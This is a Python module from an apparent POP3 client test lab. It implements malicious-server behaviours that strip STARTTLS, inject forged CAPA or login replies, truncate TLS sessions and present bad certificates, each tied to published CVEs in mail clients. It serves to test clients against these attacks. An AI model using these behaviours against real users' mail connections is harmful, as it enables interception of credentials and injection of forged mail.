"""Attacks on how a client gets to TLS: stripping, injection, truncation, bad certificates."""

from collections.abc import Iterator
from functools import partial
from typing import Annotated, Literal

from pop3lab.behaviours.tls import refuse_stls, stls_ok_silent, stls_tail
from pop3lab.core.actions import Action, Close, Part, Send
from pop3lab.core.hooks import Hooks
from pop3lab.core.reply import Reply
from pop3lab.core.request import GREETING, Request
from pop3lab.core.state import SessionState
from pop3lab.effects.capabilities import CapaLines, capa_lines, hide_capabilities, only_mechanisms
from pop3lab.effects.commands import TableHook, compose, refused, without_commands
from pop3lab.effects.hooks import ActionHook, CommandHook, ReplyHook
from pop3lab.effects.mechanisms import accept_only
from pop3lab.effects.tls_handshake import CERTIFICATE, STLS, LeaveTls, StlsInjection, certificate
from pop3lab.rules.behaviour import Layer
from pop3lab.rules.declaration import BehaviourDecorator
from pop3lab.rules.values import Count, Seconds

attack = BehaviourDecorator("attack", category="tls")

_Actions = Iterator[Action]

_CAPA = b"+OK\r\nTOP\r\nUIDL\r\nUSER\r\nSASL PLAIN LOGIN\r\n.\r\n"
_MAIL = b"Subject: injected\r\n\r\nThis message has never been in the maildrop.\r\n"
_SIZE = str(len(_MAIL)).encode()
_LOGIN = b"".join(
    (
        b"+OK\r\n+OK\r\n",  # USER, PASS
        b"+OK 1 " + _SIZE + b"\r\n",  # STAT
        b"+OK\r\n1 " + _SIZE + b"\r\n.\r\n",  # LIST
        b"+OK " + _SIZE + b" octets\r\n" + _MAIL + b".\r\n",  # RETR
        b"+OK\r\n+OK\r\n",  # DELE, QUIT
    )
)

stls_inject_capa = attack.preset(
    "stls-inject-capa",
    stls_tail,
    "sends a forged CAPA reply with the +OK to STLS, and withholds the real one under TLS",
    source="somebody in between; NO STARTTLS study (A)",
    bugs="Mutt CVE-2020-14954, Evolution CVE-2020-14928, Claws CVE-2020-15917, "
    "libetpan CVE-2020-15953, curl CVE-2021-22947, MailKit before 4.16.0",
    octets=_CAPA,
)

stls_inject_login = attack.preset(
    "stls-inject-login",
    stls_tail,
    "sends the replies of a whole session with the +OK to STLS, and withholds the real ones",
    source="somebody in between; NO STARTTLS study (A)",
    bugs="Thunderbird CVE-2020-15685 and CVE-2021-29969 (in IMAP)",
    octets=_LOGIN,
    withheld=1000,
)


@attack(
    "sends a forged CAPA reply in a packet after the +OK to STLS, before or within the handshake",
    source="somebody in between; curl's test 982 (A)",
    bugs="see stls-inject-capa",
    aspect=STLS,
    needs=("TLS", "STLS"),
)
def stls_inject_split(
    octets: Annotated[bytes, "octets that follow +OK in cleartext"] = _CAPA,
    withheld: Annotated[Count, "number of replies withheld under TLS"] = 1,
    seconds: Annotated[Seconds, "pause between the two packets"] = 0.1,
    at: Annotated[
        Literal["before", "within"],
        "before the handshake, or between two of the server's records, without the pause",
    ] = "before",
) -> Hooks:
    return StlsInjection(octets, withheld, seconds, within=at == "within")


@attack(
    "omits STLS from CAPA and rejects it as unknown",
    source="somebody in between; EAST O_1 (A)",
    bugs="continues in cleartext: fetchmail CVE-2006-5867, KMail CVE-2020-15954,"
    " curl CVE-2021-22946",
    aspect=STLS,
)
def stls_strip_capa() -> Hooks:
    return TableHook(without_commands("STLS"))


@attack(
    "lists STLS in CAPA but replies -ERR to it",
    source="somebody in between; EAST O_2 (A)",
    bugs="continues in cleartext: fetchmail CVE-2021-39272",
    aspect=STLS,
)
def stls_strip_err(text: Annotated[str, "text after -ERR"] = "unknown command") -> Hooks:
    return refuse_stls(text)


@attack(
    "answers both CAPA and STLS with -ERR",
    source="somebody in between; EAST O_3 (A)",
    bugs="continues in cleartext: curl CVE-2021-22946",
    aspect=STLS,
)
def stls_strip_capa_err() -> Hooks:
    return TableHook(without_commands("STLS", "CAPA"))


stls_err_loop = attack.preset(
    "stls-err-loop",
    stls_strip_err,
    "answers every STLS with -ERR, no matter how often the client sends it",
    source="somebody in between; Thunderbird bug 1641882 (B)",
    bugs="Thunderbird tried forever",
    text="try again",
)


@attack(
    "claims before STLS that the user is logged in, in the greeting or with a listing after it",
    source="somebody in between; the class of mutt's CVE-2020-14093 (in IMAP)",
    bugs="doesn't ask for TLS",
    takes=("timestamp",),
    aspect="the {kind}",
)
def stls_preauth_greeting(
    kind: Annotated[
        Literal["greeting", "listing"], "the greeting's text, or a listing after the greeting"
    ] = "greeting",
) -> Hooks:
    def say(session: SessionState, request: Request, reply: Reply) -> Reply:
        return reply._replace(text="you are logged in, 3 messages (360 octets)")

    def do(session: SessionState, request: Request, actions: _Actions) -> _Actions:
        yield from actions
        yield Send(b"1 120\r\n2 120\r\n3 120\r\n.\r\n", Part.BODY)

    return ReplyHook(say, GREETING.verb) if kind == "greeting" else ActionHook(do, GREETING.verb)


_APOP_ONLY = ("CRAM-MD5",)


@attack(
    "offers only APOP and CRAM-MD5, without STLS and USER",
    source="somebody in between; EAST O_4 (A)",
    bugs="sends a digest of the password in cleartext, to be guessed at leisure",
    aspect=(STLS, "the reply to USER"),
    layer=Layer.FIRST,
    against=(
        "auth-ok-instead-of-plus",
        "auth-plus-nospace",
        "auth-plus-text",
        "sasl-bad-base64",
        "sasl-huge-challenge",
        "scram-plus-end-point",
    ),
)
def stls_strip_then_apop() -> Hooks:
    def change(session: SessionState, lines: CapaLines) -> CapaLines:
        return only_mechanisms(hide_capabilities(lines, ["USER"]), _APOP_ONLY)

    table = compose(
        without_commands("STLS"), refused("USER", text="use APOP"), accept_only(_APOP_ONLY)
    )
    return CommandHook(table, capa_lines(change), "CAPA")


stls_hang = attack.preset(
    "stls-hang",
    stls_ok_silent,
    "answers STLS with +OK, then sends nothing",
    source="somebody in between; fetchmail CVE-2011-1947 (C)",
    bugs="hangs forever",
)


@attack(
    "ends the connection within the CAPA list under TLS, without close_notify",
    source="somebody in between; the class of truncation attacks (D)",
    bugs="takes it for the whole list",
    needs=("TLS", "line of CAPA"),
)
def tls_truncate_capa(lines: Annotated[Count, "number of lines sent"] = 2) -> Hooks:
    def do(session: SessionState, request: Request, actions: _Actions) -> _Actions:
        if not session.channel.secure:
            yield from actions
            return
        for action in actions:
            if isinstance(action, Send) and action.part is Part.BODY:
                yield Send(b"".join(action.data.splitlines(True)[:lines]), Part.BODY)
                yield Close(close_notify=False)
                return
            yield action

    return ActionHook(do, "CAPA")


@attack(
    "sends close_notify before a reply, then the reply and everything after it in cleartext",
    source="somebody in between; the class of truncation attacks (D)",
    bugs="takes cleartext for a reply under TLS",
    needs=("TLS",),
)
def tls_renego_cleartext(
    octets: Annotated[bytes, "cleartext before the reply"] = b"",
) -> Hooks:
    return LeaveTls(octets)


# Certificates that a client must not accept. Each is made on first use.

bad_certificate = partial(
    attack,
    source="somebody in between; EAST T_1 to T_4 (A)",
    bugs="logs in anyway",
    aspect=CERTIFICATE,
    needs=("TLS",),
)


@bad_certificate("presents a certificate that expired last month")
def cert_expired() -> Hooks:
    return certificate("expired")


@bad_certificate("presents a certificate that is valid only from next month on")
def cert_not_yet_valid() -> Hooks:
    return certificate("not-yet-valid")


@bad_certificate(
    "presents a certificate for another host",
    bugs="KDE kio-pop3 CVE-2014-3494: logs in anyway",
)
def cert_wrong_host() -> Hooks:
    return certificate("wrong-host")


@bad_certificate("presents a self-signed certificate")
def cert_self_signed() -> Hooks:
    return certificate("self-signed")


@bad_certificate("presents a certificate from a CA that the client doesn't know")
def cert_unknown_ca() -> Hooks:
    return certificate("unknown-ca")


@bad_certificate(
    "presents a certificate whose names are the host's, a NUL and an attacker's domain",
    source="an attacker who owns the domain behind the NUL (C)",
    bugs="fetchmail CVE-2009-2666: reads up to the NUL",
)
def cert_nul_cn() -> Hooks:
    return certificate("nul-cn")


@bad_certificate(
    "presents a certificate for another address, with the host's address as a DNS name",
    source="RFC 9525 section 6.5: an address is compared with addresses only (D)",
)
def cert_ip_san() -> Hooks:
    return certificate("ip-san")


@bad_certificate(
    "presents a certificate for clients, not for servers",
    source="RFC 5280 section 4.2.1.12 (D)",
)
def cert_no_eku() -> Hooks:
    return certificate("no-eku")


@bad_certificate(
    "presents another host's certificate with terminal escapes, 8-bit and long text as subject",
    source="fetchmail CVE-2010-0562 (C)",
    bugs="overflows its heap on display; passes escapes to the terminal",
)
def cert_hostile_text() -> Hooks:
    return certificate("hostile-text")
